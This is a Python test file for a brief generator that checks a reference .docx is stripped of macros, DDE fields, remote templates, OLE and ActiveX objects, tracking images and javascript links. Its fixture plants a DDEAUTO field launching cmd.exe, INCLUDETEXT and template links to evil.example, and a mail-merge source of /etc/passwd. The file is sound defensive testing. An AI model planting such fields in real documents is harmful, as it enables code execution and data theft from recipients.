"""A reference .docx is a letterhead, not a carrier: macros, remote templates, linked images,
DDE and other fields, OLE objects, ActiveX controls, custom XML and active settings in it never
reach a brief; its styles, header and footer text, page fields and embedded pictures do.
"""

from __future__ import annotations

import io
import re
import subprocess
import zipfile

import docx
import pytest
from conftest import MINIMAL_SPEC, require_tool

import briefgen

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = R_NS + "/"
OLE = 'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"'

HOSTILE_HEADER_RUNS = (
    # a DDE field that would run a program, showing an innocent result
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
    '"/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>Shown result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    # a field fetching remote text, and a page field that must survive
    '<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/x&quot; ">'
    '<w:r><w:t>Included text</w:t></w:r></w:fldSimple>'
    '<w:r><w:t xml:space="preserve"> Page </w:t></w:r>'
    '<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
    # the page count as Word writes it: begin / instruction / separate / result / end
    '<w:r><w:t xml:space="preserve"> of </w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
    'NUMPAGES \\* MERGEFORMAT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
    '</w:r><w:r><w:t>7</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    # an "image" that is really the macro project, drawn as a VML OLE object
    f'<w:r><w:pict {OLE}><v:shape id="_x2"><v:imagedata r:id="rIdFake" o:title="x"/></v:shape>'
    '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x2" DrawAspect="Icon" ObjectID="_2" '
    'r:id="rIdFake"/></w:pict></w:r>'
    # hyperlinks: javascript is dropped (its text stays), https stays
    '<w:hyperlink r:id="rIdJs"><w:r><w:t>Click me</w:t></w:r></w:hyperlink>'
    '<w:hyperlink r:id="rIdWeb"><w:r><w:t>Our site</w:t></w:r></w:hyperlink>'
    # an embedded OLE object, an ActiveX control and a picture linked from a server
    f'<w:r><w:object {OLE}><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x1" '
    'DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r>'
    '<w:r><w:control r:id="rIdAx" w:name="CheckBox1"/></w:r>'
    '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
    'wordprocessingDrawing"><wp:extent cx="100" cy="100"/><wp:docPr id="90" name="t"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
    'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://'
    'schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0" name="t"/>'
    '<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdTrack"/></pic:blipFill>'
    '<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
)
HEADER_RELS = (
    f'<Relationship Id="rIdJs" Type="{REL}hyperlink" Target="javascript:alert(1)" '
    'TargetMode="External"/>'
    f'<Relationship Id="rIdWeb" Type="{REL}hyperlink" Target="https://acme.example/" '
    'TargetMode="External"/>'
    f'<Relationship Id="rIdOle" Type="{REL}oleObject" Target="embeddings/oleObject1.bin"/>'
    f'<Relationship Id="rIdAx" Type="{REL}control" Target="activeX/activeX1.xml"/>'
    f'<Relationship Id="rIdTrack" Type="{REL}image" Target="http://evil.example/track.png" '
    'TargetMode="External"/>'
    f'<Relationship Id="rIdFake" Type="{REL}image" Target="vbaProject.bin"/>'
)
SETTINGS = ('<w:attachedTemplate r:id="rIdTpl"/><w:linkStyles/>'
            '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
            '<w:updateFields w:val="true"/>'
            '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
            '<w:dataSource r:id="rIdData"/></w:mailMerge>'
            '<w:docVars><w:docVar w:name="payload" w:val="x"/></w:docVars>'
            '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-'
            'compatibility/2006"><mc:Choice Requires="w14"><w:updateFields w:val="true"/>'
            '</mc:Choice></mc:AlternateContent>')
SETTINGS_RELS = (
    f'<Relationship Id="rIdTpl" Type="{REL}attachedTemplate" '
    'Target="http://evil.example/normal.dotm" TargetMode="External"/>'
    f'<Relationship Id="rIdData" Type="{REL}mailMergeSource" Target="file:///etc/passwd" '
    'TargetMode="External"/>')
DOCUMENT_RELS = (
    f'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
    'vbaProject" Target="vbaProject.bin"/>'
    f'<Relationship Id="rIdCx" Type="{REL}customXml" Target="../customXml/item9.xml"/>'
    f'<Relationship Id="rIdChunk" Type="{REL}aFChunk" Target="http://evil.example/chunk.html" '
    'TargetMode="External"/>')
STYLES_RELS = (  # parts nobody expects to carry relationships
    f'<Relationship Id="rIdS1" Type="{REL}attachedTemplate" '
    'Target="http://evil.example/styles.dotm" TargetMode="External"/>'
    f'<Relationship Id="rIdS2" Type="http://schemas.microsoft.com/office/2006/relationships/'
    'vbaProject" Target="vbaProject.bin"/>')
EXTRA_PARTS = {
    "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really a macro project",
    "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 an OLE package",
    "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
                                 b'activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
    "customXml/item9.xml": b"<secret>customer list</secret>",
}
CONTENT_TYPES = (
    '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.'
    'vbaProject"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-'
    'officedocument.oleObject"/><Override PartName="/word/activeX/activeX1.xml" ContentType='
    '"application/vnd.ms-office.activeX+xml"/>')


def _rels(body: str) -> str:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
            f'schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>')


def _hostile_reference() -> bytes:
    """A letterhead made with python-docx, then loaded with everything a reference may not
    carry."""
    from PIL import Image

    base = docx.Document()
    header = base.sections[0].header.paragraphs[0]
    header.text = "ACME Letterhead "
    logo = io.BytesIO()
    Image.new("RGB", (60, 20), (10, 60, 120)).save(logo, "PNG")
    header.add_run().add_picture(logo)
    base.sections[0].footer.paragraphs[0].text = "ACME footer"
    saved = io.BytesIO()
    base.save(saved)
    out = io.BytesIO()
    with zipfile.ZipFile(saved) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item).decode("utf-8") if item.filename.endswith(
                (".xml", ".rels")) else source.read(item)
            if item.filename == "word/header1.xml":
                data = data.replace("</w:p>", HOSTILE_HEADER_RUNS + "</w:p>", 1)
            elif item.filename == "word/_rels/header1.xml.rels":
                data = data.replace("</Relationships>", HEADER_RELS + "</Relationships>")
            elif item.filename == "word/settings.xml":
                data = re.sub(r"(<w:settings[^>]*>)", r"\1" + SETTINGS, data, count=1)
                if "xmlns:r=" not in data:
                    data = data.replace("<w:settings ", f'<w:settings xmlns:r="{R_NS}" ', 1)
            elif item.filename == "word/_rels/document.xml.rels":
                data = data.replace("</Relationships>", DOCUMENT_RELS + "</Relationships>")
            elif item.filename == "[Content_Types].xml":
                data = data.replace("</Types>", CONTENT_TYPES + "</Types>")
            target.writestr(item.filename, data)
        target.writestr("word/_rels/styles.xml.rels", _rels(STYLES_RELS))
        target.writestr("word/_rels/settings.xml.rels",
                        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                        f'relationships">{SETTINGS_RELS}</Relationships>')
        for name, data in EXTRA_PARTS.items():
            target.writestr(name, data)
    return out.getvalue()


@pytest.fixture
def built(tmp_path):
    folder = tmp_path / "acme"
    folder.mkdir()
    (folder / "letterhead.docx").write_bytes(_hostile_reference())
    (folder / "template.yaml").write_text(
        "name: acme\nextends: default\ndocx: {reference: letterhead.docx}\n")
    spec = tmp_path / "brief.yaml"
    spec.write_text(MINIMAL_SPEC)
    return briefgen.build(spec, "docx", tmp_path / "out", template=str(folder))[0].path


def _package(path):
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_the_hostile_reference_really_carries_it_all():
    """The test's input is what it claims: python-docx keeps every planted part when it saves."""
    original = docx.Document(io.BytesIO(_hostile_reference()))
    names = {str(p.partname) for p in original.part.package.iter_parts()}
    assert {"/word/vbaProject.bin", "/word/embeddings/oleObject1.bin",
            "/customXml/item9.xml"} <= names
    assert "DDEAUTO" in original.sections[0].header._element.xml


def test_no_active_or_remote_content_survives(built):
    package = _package(built)
    names = set(package)
    assert not {n for n in names if re.search(r"vbaProject|embeddings/|activeX|customXml", n)}
    for name, data in package.items():
        if name.endswith(".rels"):
            for rel in re.findall(rb"<Relationship [^>]*>", data):
                if b'TargetMode="External"' in rel:
                    assert b"/hyperlink" in rel and re.search(rb'Target="(https?|mailto):', rel), \
                        (name, rel)
    settings = package["word/settings.xml"].decode()
    for element in ("attachedTemplate", "linkStyles", "documentProtection", "updateFields",
                    "mailMerge", "docVars"):
        assert f"<w:{element}" not in settings, element
    text = "".join(data.decode() for name, data in package.items()
                   if re.match(r"word/(header|footer)\d*\.xml$", name))
    for planted in ("DDEAUTO", "INCLUDETEXT", "w:object", "OLEObject", "w:control", "r:link",
                    "javascript", "v:imagedata"):
        assert planted not in text, planted
    assert b"vbaProject" not in package["[Content_Types].xml"]
    assert b"evil.example" not in b"".join(package.values())


def test_the_letterhead_itself_survives(built):
    word = docx.Document(str(built))
    header = word.sections[-1].header
    xml = header._element.xml
    text = "".join(t.text or "" for t in header._element.iter(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}t"))
    for kept in ("ACME Letterhead", "Shown result", "Included text", "Click me", "Our site"):
        assert kept in text, kept
    assert re.search(r'w:instr="\s*PAGE\s*"', xml)  # the page fields still count pages
    assert re.search(r"<w:instrText[^>]*> NUMPAGES", xml)
    embeds = re.findall(r'r:embed="([^"]+)"', xml)
    assert len(embeds) == 1 and header.part.related_parts[embeds[0]].blob[:4] == b"\x89PNG"
    web = [rel for rel in header.part.rels.values() if rel.is_external]
    assert [rel.target_ref for rel in web] == ["https://acme.example/"]
    assert "ACME footer" in word.sections[-1].footer._element.xml


@pytest.mark.tools
def test_libreoffice_opens_the_brief_built_on_it(built, tmp_path):
    require_tool("soffice", "pdftotext")
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
                    "--convert-to", "pdf", "--outdir", str(tmp_path), str(built)],
                   capture_output=True, timeout=240, check=True)
    text = subprocess.run(["pdftotext", str(tmp_path / (built.stem + ".pdf")), "-"],
                          capture_output=True, text=True, check=True).stdout
    assert "ACME Letterhead" in text and "Minimal brief" in text
